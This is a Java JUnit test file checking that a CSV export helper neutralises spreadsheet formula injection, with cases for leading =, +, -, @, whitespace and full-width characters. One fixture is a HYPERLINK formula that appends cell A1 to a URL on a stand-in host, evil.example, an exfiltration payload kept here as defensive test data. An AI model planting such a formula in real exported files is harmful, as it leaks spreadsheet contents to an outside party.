package org.rectrack.gateway.compliance;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/**
 * CSV injection (OWASP, "CSV Injection"): no cell a spreadsheet opens may start a formula, whatever the text an
 * NGO or an imported report put in it.
 */
class ComplianceCsvTest {

    @ParameterizedTest(name = "a cell starting with U+{0}")
    @ValueSource(strings = { "003D", "002B", "002D", "0040", "0009", "000D", "FF1D", "FF0B", "FF0D", "FF20" })
    void aCellStartingAFormulaIsPrefixedWithAQuoteAndQuoted(String codePoint) {
        String leading = Character.toString(Integer.parseInt(codePoint, 16));
        String cell = leading + "HYPERLINK(\"https://evil.example/?\"&A1,\"Click\")";

        assertThat(ComplianceCsv.quoted(cell)).isEqualTo('"' + "'" + cell.replace("\"", "\"\"") + '"');
    }

    @ParameterizedTest(name = "white space {index} before a formula")
    @ValueSource(strings = { " =1+1", "\u00A0=1+1", "\u3000=1+1", "\n=1+1", " \t=1+1", "  @SUM(A1)", " \uFF1D1+1" })
    void whiteSpaceBeforeAFormulaDoesNotHideIt(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo("\"'" + cell + '"');
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "-12", "-12.5", "0", "300" })
    void aPlainNumberStaysANumber(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo(cell);
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "-1+1", "-1e3", "+1", "-", "-\u0661\u0662" })
    void whatOnlyLooksLikeANumberIsNeutralised(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo("\"'" + cell + '"');
    }

    @ParameterizedTest(name = "{0}")
    @ValueSource(strings = { "Train police", "ສືບສວນ ແລະ ດຳເນີນຄະດີ", "a=b", "e-mail", "LAO-2023-01" })
    void ordinaryTextIsWrittenAsItIs(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo(cell);
    }

    @ParameterizedTest(name = "{index}")
    @ValueSource(strings = { "a, b", "say \"no\"", "line\r\nbreak", "line\nbreak" })
    void aCommaAQuoteOrALineEndIsQuotedPerRfc4180(String cell) {
        assertThat(ComplianceCsv.quoted(cell)).isEqualTo('"' + cell.replace("\"", "\"\"") + '"');
    }
}
